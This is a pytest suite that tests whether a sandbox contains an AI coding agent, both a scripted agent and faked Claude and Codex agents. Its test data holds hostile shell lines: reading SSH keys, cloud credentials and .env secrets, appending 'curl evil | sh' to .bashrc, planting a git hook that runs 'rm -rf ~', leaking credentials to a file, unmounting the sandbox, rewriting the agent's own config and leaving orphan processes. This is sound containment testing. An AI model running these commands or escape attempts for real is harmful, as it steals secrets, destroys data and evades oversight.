"""The agent's own process in the sandbox (``agent.sandbox``): what it does in its own
process, never asking goose-ls, cannot reach a secret or write outside the roots.

The scripted agent runs each action as goose's shell tool does, in its own process
(``shell`` steps), under its preset's defaults; its home folder holds an SSH key, cloud
credentials and a ``.bashrc``, its workspace a ``.env``, a key found only by its
content, a git repository with hooks and a file to edit. The real agents' own tools
are tried the same way in ``test_agent_sandbox_real.py``.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
from lsprotocol import types

from goose_ls.workspace import landlock, sandbox
from support.claude import CLAUDE, claude_home, start_claude
from support.claude import MISSING as CLAUDE_MISSING
from support.codex import CODEX, start_codex
from support.codex import MISSING as CODEX_MISSING
from support.fake_anthropic import FakeAnthropic, ToolUse, tool_results
from support.fake_anthropic import Reply as ClaudeReply
from support.fake_model import Call, FakeModel, call_outputs, exec_command
from support.fake_model import Reply as CodexReply
from support.harness import (
    AGENTS,
    CHECKOUT,
    SERVER_COMMAND,
    Editor,
    sandbox_env,
    start_editor,
    stop_editor,
)
from support.real_agent import approving

pytestmark = pytest.mark.skipif(
    not sandbox.choose("workspace").active, reason="BUBBLEWRAP IS MISSING: no agent sandbox here"
)

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
CLOUD = "[default]\naws_access_key_id = AKIAFAKEFAKEFAKE\naws_secret_access_key = s3cr3tCloudKey\n"
SERVICE = json.dumps({"type": "service_account", "private_key": KEY, "client_email": "x@y"})
DOTENV = "API_TOKEN=dotenv-secret-value\n"


class Places:
    """A home folder and a workspace as a user has them, secrets included."""

    def __init__(self, tmp: Path) -> None:
        self.home = tmp / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(KEY)
        (self.home / ".aws").mkdir()
        (self.home / ".aws" / "credentials").write_text(CLOUD)
        (self.home / ".bashrc").write_text("# mine\n")
        self.workspace = tmp / "workspace"
        self.workspace.mkdir(exist_ok=True)
        subprocess.run(["git", "init", "-q", str(self.workspace)], check=True)
        (self.workspace / ".env").write_text(DOTENV)
        (self.workspace / "gcp-key.json").write_text(SERVICE)
        (self.workspace / "app.py").write_text("print('hello')\n")
        (self.workspace / "test_app.py").write_text("assert open('app.py').read()\n")
        self.goose_config = tmp / "xdg-config" / "goose" / "config.yaml"  # the agent's own
        self.goose_config.parent.mkdir(parents=True)
        self.goose_config.write_text("# mine\n")


def _answering(server: socket.socket) -> None:
    """Answer ``pong`` to whoever connects, until the server closes."""

    def answer() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.sendall(b"pong\n")

    threading.Thread(target=answer, daemon=True).start()


@pytest.fixture
def loopback() -> Iterator[int]:
    """A listener on 127.0.0.1 that answers ``pong`` to whoever connects."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(20)
    _answering(server)
    yield int(server.getsockname()[1])
    server.close()


ACTIONS = {
    "ssh key": "cat ~/.ssh/id_rsa",
    ".env": "cat .env",
    "key by content": "cat gcp-key.json",
    "edit a file": "echo \"print('edited')\" >> app.py && tail -n 1 app.py",
    "bashrc": "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc",
    "git hook": "printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/pre-commit; ls .git/hooks",
    "leak": "cat ~/.aws/credentials > leak.txt; wc -c < leak.txt",
    "run the tests": "python3 test_app.py && echo tests-pass",
    # Root in the sandbox must not keep the capabilities that undo it.
    "unmount": "umount -l .env; umount -l ~; mount -o remount,bind,rw /; cat .env ~/.ssh/id_rsa",
    "capabilities": "grep CapEff /proc/self/status",
    # Its own settings would run an extension of its choosing later, outside goose-ls too.
    "agent config": 'echo "extensions: {evil: {cmd: sh}}" >> "$XDG_CONFIG_HOME/goose/config.yaml"',
}


async def _played(tmp: Path, port: int, **settings: Any) -> dict[str, str]:
    """Each action's output, run in the scripted agent's own process under goose-ls."""
    places = Places(tmp)
    record, sessions = tmp / "agent-received.jsonl", tmp / "agent-sessions"
    record.touch()
    sessions.touch()
    runtime = tmp / "run"
    runtime.mkdir(mode=0o700)
    agent_socket = socket.socket(socket.AF_UNIX)  # as ssh-agent's, or the session bus
    agent_socket.bind(str(runtime / "agent.sock"))
    agent_socket.listen()
    _answering(agent_socket)
    lines = {
        **ACTIONS,
        "loopback": f'python3 -c "{_CONNECT}" {port}',
        "ssh-agent": f'python3 -c "{_CONNECT_UNIX}" {runtime / "agent.sock"}',
        # A process of its own session, out of its group: named by the port, one per test.
        "orphan": f"setsid sh -c 'exec sleep {port}' </dev/null >/dev/null 2>&1 & echo left",
    }
    editor = await start_editor(
        tmp,
        GOOSE_LS_AGENT_SANDBOX_WRITABLE=json.dumps([str(record), str(sessions)]),
        GOOSE_LS_AGENT_SANDBOX_READABLE=json.dumps([str(tmp / "script.json"), str(CHECKOUT)]),
    )
    try:
        steps: list[dict[str, Any]] = []
        for name, line in lines.items():
            steps += [{"text": f"\n<{name}>"}, {"shell": line}]
        agent = {"env": {"HOME": str(places.home), "XDG_RUNTIME_DIR": str(runtime)}, **settings}
        await editor.start({"turns": [steps]}, settings={"agent": agent})
        session_id = await editor.new_session()
        message_id = await editor.prompt(session_id, "do it all")
        end = await editor.goose.turn_end(message_id, timeout=60)
        assert end["stopReason"] == "end_turn"
        said = editor.goose.text(message_id)
        status = await editor.goose.request("goose/status", {})
    finally:
        await stop_editor(editor)
        agent_socket.close()
    out = {}
    for chunk in said.split("\n<")[1:]:
        name, _, rest = chunk.partition(">")
        out[name] = rest
    out["status"] = json.dumps(status)
    return out


_CONNECT_UNIX = (
    "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); "
    "print(s.recv(5).decode())"
)
_CONNECT = (
    "import socket,sys; s=socket.create_connection(('127.0.0.1',int(sys.argv[1])),5); "
    "print(s.recv(5).decode())"
)


def _running(command: str) -> list[int]:
    """The pids of processes whose command line is ``command``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
        except OSError:
            continue
        if line == command:
            found.append(int(entry.name))
    return found


def _outputs_hold_no_secret(out: dict[str, str], places: Path) -> None:
    shown = "\n".join(out.values())
    for secret in ("b3BlbnNzaC1rZXktdjEAAAAA", "s3cr3tCloudKey", "dotenv-secret-value"):
        assert secret not in shown, f"the agent read a secret: {secret}"


async def test_the_agent_s_own_process_reaches_no_secret_and_writes_only_the_roots(
    tmp_path: Path, loopback: int
) -> None:
    out = await _played(tmp_path, loopback)
    _outputs_hold_no_secret(out, tmp_path)
    workspace, home = tmp_path / "workspace", tmp_path / "home"
    assert (home / ".bashrc").read_text() == "# mine\n", "the real ~/.bashrc is untouched"
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists(), out["git hook"]
    leak = workspace / "leak.txt"
    assert not leak.exists() or "s3cr3t" not in leak.read_text()
    # Normal work still succeeds: an edit in the workspace lands, the tests run.
    assert "print('edited')" in (workspace / "app.py").read_text(), out["edit a file"]
    assert "tests-pass" in out["run the tests"], out["run the tests"]
    assert "[shell 0: pong]" in out["loopback"], "the network is on by default"
    assert "pong" not in out["ssh-agent"], "the runtime folder's sockets are hidden"
    config = tmp_path / "xdg-config" / "goose" / "config.yaml"
    assert config.read_text() == "# mine\n", "its settings that run code are read-only"
    assert not _running(f"sleep {loopback}"), "what the agent left running died with it"
    assert "CapEff:\t0000000000000000" in out["capabilities"], out["capabilities"]
    # The secrets are still there for the user.
    assert "s3cr3tCloudKey" in (home / ".aws" / "credentials").read_text()
    assert (workspace / ".env").read_text() == DOTENV
    sandbox_said = json.loads(out["status"])["agent"]["sandbox"]
    assert sandbox_said.startswith("workspace (bubblewrap)"), sandbox_said


async def test_without_the_sandbox_the_same_agent_reads_them_all(
    tmp_path: Path, loopback: int
) -> None:
    """The test above can fail: with ``agent.sandbox`` off, every secret is read."""
    out = await _played(tmp_path, loopback, sandbox="off")
    assert "b3BlbnNzaC1rZXktdjEAAAAA" in out["ssh key"]
    assert "dotenv-secret-value" in out[".env"]
    assert "b3BlbnNzaC1rZXktdjEAAAAA" in out["key by content"]
    assert "s3cr3tCloudKey" in (tmp_path / "workspace" / "leak.txt").read_text()
    assert "curl evil" in (tmp_path / "home" / ".bashrc").read_text()
    assert "pong" in out["ssh-agent"]
    for pid in _running(f"sleep {loopback}"):
        os.kill(pid, signal.SIGKILL)  # goose-ls, as the subreaper, should have already
    assert "evil" in (tmp_path / "xdg-config" / "goose" / "config.yaml").read_text()
    # The hook was planted; the turn's end set it aside, which the sandbox does not need.
    assert list(tmp_path.glob("**/set-aside/*/workspace/.git/hooks/pre-commit"))
    assert not (tmp_path / "workspace" / ".git" / "hooks" / "pre-commit").exists()
    assert json.loads(out["status"])["agent"]["sandbox"].startswith("off")


@pytest.mark.skipif(landlock.abi() < 1, reason="LANDLOCK IS MISSING: its fallback is not tried")
async def test_without_user_namespaces_landlock_still_hides_the_home_folder(
    tmp_path: Path, loopback: int
) -> None:
    """Where bubblewrap cannot make namespaces (here: a ``bwrap`` first on PATH that
    fails as it does under such a kernel), the agent runs under Landlock: weaker, and it
    says how."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    out = await _played(tmp_path, loopback)
    said = json.loads(out["status"])["agent"]["sandbox"]
    assert said.startswith("workspace (Landlock"), said
    assert "NOT hidden: secrets inside the workspace" in said
    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in out["ssh key"], out["ssh key"]
    assert (tmp_path / "home" / ".bashrc").read_text() == "# mine\n"
    leak = tmp_path / "workspace" / "leak.txt"
    assert "s3cr3t" not in leak.read_text()
    assert "print('edited')" in (tmp_path / "workspace" / "app.py").read_text()
    assert "tests-pass" in out["run the tests"], out["run the tests"]
    assert "CapEff:\t0000000000000000" in out["capabilities"], out["capabilities"]


async def test_with_the_network_off_the_loopback_listener_is_out_of_reach(
    tmp_path: Path, loopback: int
) -> None:
    out = await _played(tmp_path, loopback, sandboxNetwork=False)
    assert "pong" not in out["loopback"], out["loopback"]
    assert "no network" in json.loads(out["status"])["agent"]["sandbox"]


# --- the real agents, their own tools ---------------------------------------------


def _real_sandbox(tmp: Path) -> dict[str, str]:
    """The test's arrangement only: the wiretap (``bin``), this checkout and the
    fetched agents readable, the wiretap's record writable."""
    record = tmp / "agent-received.jsonl"
    files = [record, *(record.with_suffix(s) for s in (".sent.jsonl", ".wire.jsonl"))]
    for file in files:
        file.touch()
    (tmp / "codex-temp").mkdir()  # codex's TMPDIR in tests (see start_codex)
    return sandbox_env([*files, tmp / "codex-temp"], (CHECKOUT, AGENTS, tmp / "bin"))


def _allow(card: dict[str, Any]) -> str:
    """The card's "allow once" (else "allow always") option."""
    kinds = {o["kind"]: o["optionId"] for o in card["options"]}
    return str(kinds.get("allow_once") or kinds["allow_always"])


@attrs.frozen
class Trial:
    """What one agent did with the eight actions: what its model was told its tools
    returned, the cards goose-ls showed, the audit log's records, the sandbox said."""

    results: str
    cards: list[dict[str, Any]]
    audit: list[dict[str, Any]]
    sandbox: str


async def _trial(
    editor: Editor, start: Any, prompt: str, mode: str | None = None
) -> tuple[list[dict[str, Any]], str]:
    """Start the agent, run one turn approving every card (in ``mode``, set by the
    agent's mode switch); the cards and the sandbox the status names."""
    await start()
    session_id = await editor.new_session()
    if mode is not None:
        await editor.goose.request("goose/setMode", {"sessionId": session_id, "modeId": mode})
    yes = asyncio.ensure_future(approving(editor))
    try:
        message_id = await editor.prompt(session_id, prompt)
        end = await editor.goose.turn_end(message_id, timeout=120)
        assert end["stopReason"] == "end_turn", end
    finally:
        yes.cancel()
    cards = await yes
    status = await editor.goose.request("goose/status", {})
    return cards, str(status["agent"].get("sandbox"))


def _audit(tmp: Path) -> list[dict[str, Any]]:
    path = tmp / "data" / "audit.log"
    lines = path.read_text().splitlines() if path.exists() else []
    return [json.loads(line) for line in lines]


def _claude_replies(places: Places, port: int) -> list[ClaudeReply]:
    home, ws = places.home, places.workspace
    tools = [
        ToolUse("Read", {"file_path": f"{home}/.ssh/id_rsa"}),
        ToolUse("Read", {"file_path": f"{ws}/.env"}),
        ToolUse("Read", {"file_path": f"{ws}/gcp-key.json"}),
        ToolUse("Read", {"file_path": f"{ws}/app.py"}),
        ToolUse(
            "Edit",
            {"file_path": f"{ws}/app.py", "old_string": "hello", "new_string": "edited"},
        ),
        ToolUse("Bash", {"command": ACTIONS["bashrc"]}),
        ToolUse("Write", {"file_path": f"{ws}/.git/hooks/pre-commit", "content": HOOK}),
        ToolUse("Bash", {"command": ACTIONS["leak"]}),
        ToolUse("Bash", {"command": f'python3 -c "{_CONNECT}" {port}'}),
        ToolUse("Bash", {"command": ACTIONS["run the tests"]}),
    ]
    numbered = [ToolUse(t.name, t.input, id=f"toolu_{n:02}") for n, t in enumerate(tools)]
    return [*(ClaudeReply(("On it.",), tool=t) for t in numbered), ClaudeReply(("Done.",))]


HOOK = "#!/bin/sh\nrm -rf ~\n"


async def _claude_trial(tmp: Path, port: int, mode: str | None) -> Trial:
    editor = await start_editor(tmp, SERVER_COMMAND, **_real_sandbox(tmp))
    places = Places(tmp)
    try:
        if mode is not None:
            home = claude_home(editor)
            home.mkdir(exist_ok=True)
            settings = {"permissions": {"defaultMode": mode}}
            (home / "settings.json").write_text(json.dumps(settings))
        with FakeAnthropic(_claude_replies(places, port)) as api:
            cards, said = await _trial(editor, lambda: start_claude(editor, api), "do it all")
            results = "\n".join("\n".join(tool_results(r)) for r in api.turns())
    finally:
        await stop_editor(editor)
    return Trial(results, cards, _audit(tmp), said)


def _codex_replies(places: Places, port: int) -> list[CodexReply]:
    home = places.home
    patch_app = (
        "*** Begin Patch\n*** Update File: app.py\n@@\n-print('hello')\n+print('edited')\n"
        "*** End Patch\n"
    )
    hook = f"*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+{HOOK.splitlines()[1]}\n*** End Patch\n"
    calls = [
        exec_command(f"cat {home}/.ssh/id_rsa"),
        exec_command(ACTIONS[".env"]),
        exec_command(ACTIONS["key by content"]),
        Call("apply_patch", input=patch_app),
        exec_command(ACTIONS["bashrc"]),
        Call("apply_patch", input=hook),
        exec_command(ACTIONS["leak"]),
        exec_command(f'python3 -c "{_CONNECT}" {port}'),
        exec_command(ACTIONS["run the tests"]),
    ]
    numbered = [Call(c.name, c.input, f"call_{n:02}") for n, c in enumerate(calls)]
    return [*(CodexReply(("On it.",), call=c) for c in numbered), CodexReply(("Done.",))]


async def _codex_trial(tmp: Path, port: int, mode: str | None) -> Trial:
    editor = await start_editor(tmp, SERVER_COMMAND, **_real_sandbox(tmp))
    places = Places(tmp)
    try:
        with FakeModel(_codex_replies(places, port)) as model:

            async def start() -> None:
                await start_codex(editor, model)

            cards, said = await _trial(editor, start, "do it all", mode)
            results = "\n".join("\n".join(call_outputs(r)) for r in model.turns())
    finally:
        await stop_editor(editor)
    return Trial(results, cards, _audit(tmp), said)


def _held(trial: Trial, tmp: Path) -> None:
    """The pass line of every trial: no secret read, nothing outside the roots written,
    no hook planted, no leak, every card audited, normal work done."""
    for secret in ("b3BlbnNzaC1rZXktdjEAAAAA", "s3cr3tCloudKey", "dotenv-secret-value"):
        assert secret not in trial.results, f"the model was told a secret: {secret}"
    workspace, home = tmp / "workspace", tmp / "home"
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    leak = workspace / "leak.txt"
    assert not leak.exists() or "s3cr3t" not in leak.read_text()
    assert "edited" in (workspace / "app.py").read_text(), trial.results
    assert "tests-pass" in trial.results, trial.results
    by_user = [(r["tool"], r["outcome"]) for r in trial.audit if r.get("by") == "user"]
    for card in trial.cards:
        call = card["toolCall"]
        assert (call.get("title") or call.get("kind"), _allow(card)) in by_user, (card, trial.audit)
    assert trial.sandbox.startswith("workspace (bubblewrap)"), trial.sandbox


@pytest.mark.skipif(not CLAUDE.exists(), reason=CLAUDE_MISSING)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
async def test_claude_s_own_tools_stay_in_the_sandbox(
    tmp_path: Path, loopback: int, mode: str | None
) -> None:
    _held(await _claude_trial(tmp_path, loopback, mode), tmp_path)


@pytest.mark.skipif(not CODEX.exists(), reason=CODEX_MISSING)
@pytest.mark.parametrize("mode", [None, "full-access"], ids=["preset", "full-access"])
async def test_codex_s_own_tools_stay_in_the_sandbox(
    tmp_path: Path, loopback: int, mode: str | None
) -> None:
    _held(await _codex_trial(tmp_path, loopback, mode), tmp_path)


async def test_an_agent_started_again_in_another_sandbox_is_said_in_every_open_chat(
    editor: Editor,
) -> None:
    """A setting changed under a running chat (by the user, or by a file the agent wrote
    that the editor pushes): what the chat said at its top no longer holds."""
    await editor.start({"turns": [[{"text": "ok"}]]})
    session_id = await editor.new_session()
    await editor.goose.turn_end(await editor.prompt(session_id, "hi"))
    (summary,) = (await editor.goose.request("goose/status", {}))["sessions"]
    transcript = Path(summary["transcript"].removeprefix("file://")).read_text()
    head = transcript.splitlines()[2]
    assert head.startswith("> Agent sandbox: workspace (bubblewrap)"), transcript[:300]
    editor.client.workspace_did_change_configuration(
        types.DidChangeConfigurationParams(settings={"goose": {"agent": {"sandbox": "off"}}})
    )
    await editor.goose.request("goose/restart", {})
    said = "The agent was started again in another sandbox: off (agent.sandbox is off)"
    changed = await editor.goose.wait_for(
        lambda: [n for n in editor.goose.of_kind("note", session_id) if said in n["text"]],
        what="a note on the new sandbox",
    )
    assert changed[0]["severity"] == "warning", changed
